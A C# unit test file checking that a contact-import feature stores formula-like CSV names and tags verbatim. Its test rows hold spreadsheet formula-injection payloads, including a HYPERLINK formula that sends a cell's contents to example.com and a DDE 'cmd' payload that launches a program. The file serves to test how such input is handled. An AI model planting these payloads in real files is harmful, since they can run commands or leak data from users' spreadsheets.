namespace Calliyo.Domain.Tests.Imports;

/// <summary>Names and tags that look like spreadsheet formulas are stored as typed, only trimmed.</summary>
public sealed class FormulaTextTests
{
    private const string Folder = "18-formula-injection-names";
    private const string FileName = "leads-formula.csv";

    [Fact]
    public void Plan_ImportsSixLeads_FormulaText()
    {
        var plan = CaseFiles.Plan(Folder, FileName);

        Assert.Equal(6, plan.ImportCount);
        Assert.Equal(0, plan.ErrorCount);
    }

    [Theory]
    [InlineData(1, 2, "=HYPERLINK(\"http://example.com/x?d=\"&A1,\"Click me\")", "Verma", "+919876540181", "asha.verma@example.com", new string[0])]
    [InlineData(2, 3, "=1+2", "Nair", "+919876540182", "rahul.nair@example.com", new string[0])]
    [InlineData(3, 4, "@SUM(1,2)", "Iyer", "+919876540183", "meera.iyer@example.com", new string[0])]
    [InlineData(4, 5, "-2+3", "Shah", "+919876540184", "kabir.shah@example.com", new string[0])]
    [InlineData(5, 6, "Tabbed", "Khan", "+919876540185", "zoya.khan@example.com", new string[0])]
    [InlineData(6, 7, "Dev", "Patel", "+919876540186", "dev.patel@example.com", new[] { "=cmd|' /C calc'!A0" })]
    public void Plan_StoresTextVerbatim_FormulaLikeValue(int record, int line, string firstName, string lastName, string e164, string email, string[] tags)
    {
        var plan = CaseFiles.Plan(Folder, FileName);

        CaseFiles.AssertImported(plan.Record(record), line, firstName, lastName, e164, email, "New", tags);
    }
}
